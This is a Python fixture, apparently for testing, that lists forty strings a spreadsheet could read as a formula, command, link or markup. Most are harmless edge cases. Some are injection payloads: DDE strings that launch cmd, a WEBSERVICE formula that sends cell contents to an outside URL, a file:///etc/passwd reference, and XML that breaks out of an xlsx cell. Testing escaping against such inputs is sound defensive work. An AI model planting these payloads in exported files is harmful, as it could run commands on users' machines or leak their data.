"""Forty texts that a spreadsheet would take for a formula, a command, a link, a number or its own markup."""

FORMULAS = (
    "=1+1", "=1+1\n", "==1", "=A1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://example.com\",\"x\")",
    "=WEBSERVICE(\"https://example.com/\"&A1)", "=IMPORTXML(\"https://example.com\",\"//a\")", "={1,2,3}",
    "=IF(1=1,\"a\",\"b\")", "='file:///etc/passwd'#$passwd.A1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=_xlfn.WEBSERVICE(1)",
    "+1+1", "+44 20 7946 0000", "+A1", "+cmd|'/C calc'!A0", "-1", "-1+1", "-A1", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1,1)", "@A1", "@cmd", "@=1+1", "\t=1+1", "\t+1", "\t@A1", "\r=1+1", "\r-1", "\r\n=1+1", "\n=1+1",
    "'=1+1", "_x003D_1+1", "_x000D_=1", "|cmd", "0123",
    "<r><t>looks</t></r>", '<r></r></is></c><c r="A99"><f>1+1</f></c><c r="B99" t="inlineStr"><is><r></r>',
)  # fmt: skip
